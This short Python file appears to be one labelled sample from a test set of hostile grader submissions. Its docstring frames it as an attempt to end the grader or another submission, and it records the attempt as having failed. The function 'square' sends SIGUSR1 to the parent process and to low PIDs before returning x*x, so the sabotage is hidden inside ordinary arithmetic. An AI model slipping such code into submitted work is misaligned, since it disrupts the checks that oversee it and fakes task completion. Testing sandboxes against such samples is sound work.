"""Signals to the process above, to all, to groups.

Gains: the end of the grader, or of another's submission
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import os
import signal


def square(x):
    for pid in (os.getppid(), 2, 3, 4, 5):
        try:
            os.kill(pid or 2, signal.SIGUSR1)
            return x * x
        except OSError as error:
            print("refused:", type(error).__name__)
    return x
